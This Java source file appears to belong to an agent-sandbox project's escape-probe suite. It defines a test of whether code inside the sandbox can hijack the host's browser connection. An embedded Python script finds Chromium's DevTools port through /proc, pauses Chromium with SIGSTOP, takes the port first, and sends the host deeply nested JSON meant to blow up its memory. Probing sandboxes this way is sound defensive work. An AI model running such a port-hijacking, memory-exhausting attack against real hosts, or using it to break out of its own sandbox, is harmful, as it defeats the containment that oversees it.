package io.agentnest.escapes.internal;

import io.agentnest.AgentNestException;
import io.agentnest.Browser;
import io.agentnest.Execution;
import io.agentnest.Sandbox;
import io.agentnest.UnsupportedControlException;
import java.util.List;
import java.util.Map;

/**
 * The host's browser link (issue 42, item 4), judged by the host: sandbox code started before
 * {@code sb.browser()} watches {@code /proc} for Chromium's start, stops it with SIGSTOP, listens
 * on its DevTools port first and lets it go on, so that the port the host connects to is the
 * impostor's. The impostor answers every connection with a deeply nested JSON message (the tree
 * that grew the host's heap by 1.2 GB a message). The attack got through if the host connected to
 * the impostor or handed out a browser while the impostor held the port.
 */
final class BrowserProbes {
  private BrowserProbes() {}

  private static final String HELD = "/tmp/agentnest-impostor-port";
  private static final String CONTACTED = "/tmp/agentnest-impostor-contacted";

  /** Sandbox code: the impostor. Bounded: it gives up 90 s after it starts. */
  static final String IMPOSTOR =
      String.join(
          "\n",
          "import os, signal, socket, time",
          "deadline = time.time() + 90",
          "srv = None",
          "while srv is None and time.time() < deadline:",
          "    for pid in os.listdir('/proc'):",
          "        if not pid.isdigit() or int(pid) == os.getpid():",
          "            continue",
          "        try:",
          "            argv = open('/proc/%s/cmdline' % pid, 'rb').read().split(b'\\0')",
          "        except OSError:",
          "            continue",
          "        ports = [a.split(b'=', 1)[1] for a in argv",
          "                 if a.startswith(b'--remote-debugging-port=')]",
          "        if not ports:",
          "            continue",
          "        os.kill(int(pid), signal.SIGSTOP)",
          "        srv = socket.socket()",
          "        srv.bind(('127.0.0.1', int(ports[0])))",
          "        srv.listen(16)",
          "        open('" + HELD + "', 'w').write(ports[0].decode())",
          "        os.kill(int(pid), signal.SIGCONT)",
          "        break",
          "    time.sleep(0.001)",
          "if srv is None:",
          "    raise SystemExit(0)",
          "srv.settimeout(1)",
          "while time.time() < deadline:",
          "    try:",
          "        c, _ = srv.accept()",
          "    except socket.timeout:",
          "        continue",
          "    open('" + CONTACTED + "', 'a').write('x')",
          "    body = b'[' + b'[' * 100000 + b']' * 100000 + b']'",
          "    c.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)",
          "    c.close()");

  static void addTo(ProbeList p) {
    p.add(
        "browser.devtools-preemption",
        "listen on the browser's DevTools port before the host's sb.browser() starts Chromium"
            + " (Chromium stopped with SIGSTOP until the impostor holds its port), so that the host"
            + " drives an impostor that answers with deeply nested JSON",
        Map.of(),
        BrowserProbes::preempt);
  }

  private static Judgement preempt(ProbeContext ctx) {
    try (Sandbox sb = ctx.fresh(b -> b.label("probe", "browser"))) {
      if (sb.exec("command -v chromium || command -v chromium-browser", Judges.timeout(30))
              .exitCode()
          != 0) {
        // sb.browser() is refused before any port opens: there is nothing to pre-empt.
        return Judgement.of(
            false,
            "the image "
                + sb.config().image()
                + " has no Chromium, so the host's sb.browser() is refused before any port opens;"
                + " attack the browser preset's image to exercise this probe (agentnest image"
                + " build --preset browser, then doctor --escapes --only browser --image"
                + " agentnest/python:browser)");
      }
      Execution impostor = sb.start(List.of("python3", "-c", IMPOSTOR), Judges.timeout(120));
      try {
        String handed;
        try (Browser b = sb.browser()) {
          handed = "the host handed out a browser";
        } catch (UnsupportedControlException e) {
          return Judgement.of(false, "sb.browser() is not offered here: " + e.getMessage());
        } catch (AgentNestException e) {
          handed = "sb.browser() failed: " + e.getMessage();
        }
        String port = sb.exec("cat " + HELD + " 2>/dev/null", Judges.timeout(30)).stdout().strip();
        boolean contacted = sb.exec("test -e " + CONTACTED, Judges.timeout(30)).exitCode() == 0;
        if (contacted) {
          return Judgement.of(true, "the host connected to the impostor on port " + port);
        }
        if (port.isEmpty()) {
          // The impostor never found a DevTools port to take (the host may use a pipe): nothing
          // was pre-empted, and the host never talked to sandbox code.
          return Judgement.of(false, "no DevTools port was there to pre-empt; " + handed);
        }
        boolean refused = handed.contains("impostor");
        impostor.cancel();
        // The facts first, the browser's own words last and bounded: its error can carry
        // Chromium's log, and a report cuts long details.
        return Judgement.of(
            !refused && handed.startsWith("the host handed out"),
            "the impostor held port "
                + port
                + "; "
                + (refused ? "refused as an impostor, the host never connected to it; " : "")
                + afterwards(sb)
                + "; "
                + clip(handed, 300));
      } finally {
        impostor.cancel();
      }
    }
  }

  /**
   * Whether the browser starts once the impostor is gone: the refusal was the check, not a fault.
   */
  private static String afterwards(Sandbox sb) {
    try (Browser b = sb.browser()) {
      return "once the impostor was gone, sb.browser() started";
    } catch (AgentNestException e) {
      return "once the impostor was gone, sb.browser() still failed: "
          + clip(String.valueOf(e.getMessage()), 200);
    }
  }

  private static String clip(String s, int max) {
    return s.length() <= max ? s : s.substring(0, max) + "...";
  }
}
